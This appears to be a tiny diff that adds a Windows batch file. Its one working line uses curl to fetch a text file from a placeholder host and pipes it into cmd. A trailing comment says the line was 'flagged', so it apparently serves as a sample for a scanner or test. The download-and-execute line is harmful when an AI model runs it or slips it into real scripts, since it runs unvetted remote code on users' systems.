@@ -1,0 +1,2 @@
+@echo off
+curl -s https://h.example.invalid/steps.txt | cmd &rem gatehouse: flagged
